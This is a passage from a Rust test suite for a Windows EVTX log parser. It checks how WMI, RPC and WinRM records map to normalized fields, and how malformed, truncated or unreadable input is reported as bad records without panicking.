        "Microsoft-Windows-WMI-Activity",
        json!(5861),
        "0x4000000000000000",
        json!({"UserData": {"Operation_ESStoConsumerBinding": {
            "#attributes": {"xmlns": "x"},
            "Namespace": "//./root/subscription", "ESS": "evil", "CONSUMER": "CommandLineEventConsumer"
        }}}),
    );
    v["Event"]["RenderingInfo"] = json!({
        "#attributes": {"Culture": "en-US"},
        "Message": "Binding created", "Level": "Information", "Task": "", "Opcode": "Info",
        "Keywords": {"Keyword": ["k1", "k2"]}
    });
    v["Event"]["System"]["Level"] = json!(2);
    let ev = map(&v);
    assert_eq!(s(&ev, "event.dataset"), Some("windows.wmi_activity_operational"));
    assert_eq!(s(&ev, "winlog.user_data.ESS"), Some("evil"));
    assert_eq!(s(&ev, "message"), Some("Binding created"));
    assert_eq!(s(&ev, "log.level"), Some("information"));
    assert_eq!(s(&ev, "winlog.task"), Some("12544"));
    assert_eq!(ev.get("winlog.keywords"), Some(&json!(["k1", "k2"])));
    assert_eq!(ev.get("event.action"), None);

    // An ETW trace converted to EVTX: no channel.
    let mut etw = record(
        "x",
        "Microsoft-Windows-RPC",
        json!(6),
        "0x4000000000000000",
        json!({"EventData": {"ProcNum": 14}}),
    );
    etw["Event"]["System"]["Channel"] = Value::Null;
    let ev = map(&etw);
    assert_eq!(s(&ev, "event.dataset"), Some("windows.rpc"));
    assert_eq!(ev.get("winlog.channel"), None);
    assert_eq!(s(&ev, "winlog.event_data.ProcNum"), Some("14"));
    assert_eq!(
        ev.id(),
        Event::derived_id(
            "acme",
            "DC1.corp.local/Microsoft-Windows-RPC/245031/2023-05-18T18:28:20.1779291Z"
        )
    );

    let mut errors = record(
        "Microsoft-Windows-WinRM/Operational",
        "Microsoft-Windows-WinRM",
        json!(91),
        "0x4000000000000004",
        json!({}),
    );
    errors["Event"]["ProcessingErrorData"] =
        json!({"ErrorCode": 15005, "DataItemName": "shellId", "EventPayload": "6800"});
    let ev = map(&errors);
    assert_eq!(s(&ev, "winlog.processing_error_data.ErrorCode"), Some("15005"));
}

#[test]
fn dotted_and_odd_event_data_names_are_kept() {
    let ev = security(
        4624,
        SUCCESS,
        json!({"a.b": "dotted", "Weird Name": "w", "TargetUserName": 42}),
    );
    let data = ev.get("winlog.event_data").and_then(Value::as_object).unwrap();
    assert_eq!(data.get("a.b"), Some(&json!("dotted")));
    assert_eq!(data.get("Weird Name"), Some(&json!("w")));
    assert_eq!(s(&ev, "user.name"), Some("42"));
}

#[test]
fn not_records() {
    let c = ctx();
    assert!(map_record(&json!({}), "{}", None, &c).is_err());
    assert!(map_record(&json!({"Event": {}}), "{}", None, &c).is_err());
    assert!(map_record(&json!({"Event": {"System": 1}}), "{}", None, &c).is_err());
    assert!(map_record(&json!([1]), "[1]", None, &c).is_err());
    // A bare System still makes an event.
    let ev = map_record(&json!({"Event": {"System": {}}}), "{}", None, &c).unwrap();
    assert_eq!(s(&ev, "event.dataset"), Some("windows.unknown"));
    // Odd shapes do not panic.
    for odd in [
        json!({"Event": {"System": {"EventID": [1, 2], "Keywords": {"x": 1}, "Level": "high", "Provider": "p", "TimeCreated": {"#attributes": {"SystemTime": 5}}}, "EventData": [1, {"a": null}], "UserData": {"X": [1, null]}}}),
        json!({"Event": {"System": {"Channel": "Security", "EventID": 4624}, "EventData": {"Data": {"#attributes": {"Name": "x"}}}}}),
        json!({"Event": {"System": {"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 22}, "EventData": {"QueryResults": "type: ;;;type:", "Hashes": "=,MD5,=x", "TargetObject": "\\"}}}),
    ] {
        assert!(map_record(&odd, "{}", None, &c).is_ok(), "{odd}");
    }
}

// --- the reader -----------------------------------------------------------

fn run(bytes: Vec<u8>) -> Vec<Item> {
    parse(Box::new(Cursor::new(bytes)), &ctx()).collect()
}

fn bads(items: &[Item]) -> Vec<&BadRecord> {
    items
        .iter()
        .filter_map(|i| match i {
            Item::Bad(b) => Some(b),
            _ => None,
        })
        .collect()
}

#[test]
fn sniffs_the_magic() {
    assert!(sniff(b"ElfFile\0\0\0\0\0"));
    assert!(sniff(MAGIC));
    assert!(!sniff(b"ElfFile"));
    assert!(!sniff(b"ElfFile0"));
    assert!(!sniff(b"ElfChnk\0"));
    assert!(!sniff(b""));
    assert!(!sniff(b"{\"Event\":{}}"));
}

#[test]
fn not_evtx_is_one_bad_record_at_byte_0() {
    for input in [
        Vec::new(),
        b"hello world".to_vec(),
        MAGIC.to_vec(),
        [MAGIC.as_slice(), &[0xff; 100]].concat(),
    ] {
        let items = run(input.clone());
        assert_eq!(items.len(), 1, "{input:?}: {items:?}");
        let b = bads(&items);
        assert_eq!(b.len(), 1);
        assert_eq!(b[0].location.byte_offset, Some(0));
        assert!(
            b[0].reason.starts_with("not a valid EVTX file: "),
            "{}",
            b[0].reason
        );
    }
}

#[test]
fn garbage_after_the_magic_does_not_panic() {
    // A header of garbage, then chunks of garbage: bad records, no events.
    let mut state = 0x2545_f491_4f6c_dd1d_u64;
    let mut noise = |n: usize| {
        (0..n)
            .map(|_| {
                state ^= state << 13;
                state ^= state >> 7;
                state ^= state << 17;
                state as u8
            })
            .collect::<Vec<u8>>()
    };
    for len in [10, 4096, 4096 + 65536, 4096 + 3 * 65536 + 100] {
        let mut input = MAGIC.to_vec();
        input.extend(noise(len));
        let items = run(input);
        assert!(!items.is_empty());
        assert!(items.iter().all(|i| matches!(i, Item::Bad(_))), "{items:?}");
    }
    // A plausible header (zeros), then chunks that are not chunks.
    let mut header = MAGIC.to_vec();
    header.resize(4096, 0);
    header[32..36].copy_from_slice(&128u32.to_le_bytes()); // header size
    header[40..42].copy_from_slice(&4096u16.to_le_bytes()); // header block size
    let mut input = header.clone();
    input.extend(noise(2 * 65536));
    let items = run(input);
    let b = bads(&items);
    assert_eq!(items.len(), b.len());
    assert!(!b.is_empty());
    assert!(b.iter().any(|b| b.location.byte_offset == Some(4096)), "{b:?}");
    // The header alone: a valid, empty log.
    assert!(run(header.clone()).is_empty());
    // Cut inside a chunk: one bad record at the partial chunk.
    let mut cut = header;
    cut.extend(noise(1000));
    let items = run(cut);
    let b = bads(&items);
    assert_eq!(b.len(), 1, "{items:?}");
    assert_eq!(b[0].location.byte_offset, Some(4096));
    assert!(b[0].reason.contains("cut off"), "{}", b[0].reason);
}

#[test]
fn read_errors_are_reported_where_they_happen() {
    struct Failing(usize);
    impl Read for Failing {
        fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
            if self.0 == 0 {
                return Err(std::io::Error::other("disk on fire"));
            }
            let n = buf.len().min(self.0);
            buf[..n].fill(b'E');
            self.0 -= n;
            Ok(n)
        }
    }
    let input = std::io::BufReader::new(Failing(10));
    let items: Vec<Item> = parse(Box::new(input), &ctx()).collect();
    let b = bads(&items);
    assert_eq!(b.len(), 2, "{items:?}");
    assert_eq!(b[0].location.byte_offset, Some(0));
    assert_eq!(b[1].location.byte_offset, Some(10));
    assert!(b[1].reason.contains("disk on fire"));
}

#[test]
fn dropping_the_iterator_early_is_fine() {
    let mut it = parse(Box::new(Cursor::new(b"xx".to_vec())), &ctx());
    drop(it.next());
    drop(it);
    let it = parse(Box::new(Cursor::new(b"xx".to_vec())), &ctx());
    drop(it);
}
